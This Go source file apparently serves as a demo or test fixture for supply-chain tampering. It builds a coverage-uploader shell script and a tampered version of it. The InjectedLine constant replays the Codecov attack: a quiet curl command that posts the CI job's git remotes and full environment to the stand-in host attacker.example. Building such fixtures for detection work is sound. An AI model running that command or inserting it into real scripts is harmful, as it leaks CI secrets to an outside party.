package demo

import (
	"bytes"
	"fmt"
)

// ScriptName is the object the stories protect.
const ScriptName = "install.sh"

// IndicatorHost is where the replayed attack sends the environment: a name under the
// reserved .example domain, which resolves nowhere.
const IndicatorHost = "attacker.example"

// InjectedLine is the Codecov attacker's change, replayed: one line at the end of the
// uploader that posts the CI job's git remotes and its whole environment (every secret
// in it) to the attacker's host, quietly, with a half-second timeout so nobody notices a
// delay.
const InjectedLine = `curl -sm 0.5 -d "$(git remote -v)<<<<<< ENV $(env)" https://` + IndicatorHost + `/upload/v2 || true` + "\n"

const scriptHead = `#!/usr/bin/env bash
# Coverage uploader: finds the coverage reports of a CI job and uploads them.
# Published at https://downloads.demo.invalid/install.sh; verify it against the signed
# release before you run it.
set -euo pipefail

VERSION="1.0.0"
URL="${UPLOAD_URL:-https://upload.demo.invalid}"

say() { printf '==> %s\n' "$*" >&2; }

find_reports() {
  find . -type f \( -name 'coverage*.xml' -o -name 'lcov.info' -o -name '*.lcov' \) \
    -not -path './node_modules/*' -not -path './.git/*'
}

upload() {
  local report=$1
  say "uploading $report"
  curl -fsS --retry 3 -H "Content-Type: text/plain" \
    --data-binary "@$report" "$URL/v1/upload?commit=${GITHUB_SHA:-unknown}"
}

say "coverage uploader $VERSION"
`

const scriptTail = `found=0
for report in $(find_reports); do
  upload "$report"
  found=$((found + 1))
done
say "uploaded $found report(s)"
`

// Script returns the uploader script, padded with comment lines to at least size bytes
// (0: as it is).
func Script(size int) []byte {
	var b bytes.Buffer
	b.WriteString(scriptHead)
	for i := 1; b.Len()+len(scriptTail) < size; i++ {
		fmt.Fprintf(&b, "# %05d changelog: report discovery and upload retries, see the release notes of %d.%d\n", i, i/100, i%100)
	}
	b.WriteString(scriptTail)
	return b.Bytes()
}

// Tampered is script with the attacker's line appended.
func Tampered(script []byte) []byte {
	out := append([]byte(nil), script...)
	if len(out) > 0 && out[len(out)-1] != '\n' {
		out = append(out, '\n')
	}
	return append(out, InjectedLine...)
}
